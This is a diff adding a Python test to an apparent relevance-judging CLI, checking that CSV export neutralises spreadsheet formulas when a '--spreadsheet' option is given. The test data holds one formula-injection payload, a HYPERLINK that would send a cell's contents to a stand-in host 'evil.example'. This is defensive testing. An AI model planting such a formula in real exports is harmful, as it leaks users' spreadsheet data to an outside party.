@@ -197,6 +197,18 @@ def a_lead_decides_and_judgments_go_out(
     ]
 
 
+def test_csv_is_for_spreadsheets_where_it_is_asked_for(judging: Path) -> None:
+    formula = '=HYPERLINK("https://evil.example?"&A1)'
+    run(judging, "judge", "small", *ITEM, "--grade", 2, "--annotator", "ann", "--note", formula)
+    export = ("qrels", "export", "small", "--per-annotator")
+    notes = []
+    for more in ((), ("--spreadsheet",)):
+        table = run_inside(judging, *export, "--format", "csv", *more).stdout
+        notes += [row["note"] for row in csv.DictReader(io.StringIO(table))]
+    assert notes == [formula, f"'{formula}"]
+    assert_refused(run_inside(judging, *export, "--spreadsheet"), "--spreadsheet is for CSV")
+
+
 def test_qrels_go_out_and_come_in_by_name_and_a_broken_file_changes_nothing(
     judging: Path, tmp_path: Path
 ) -> None:
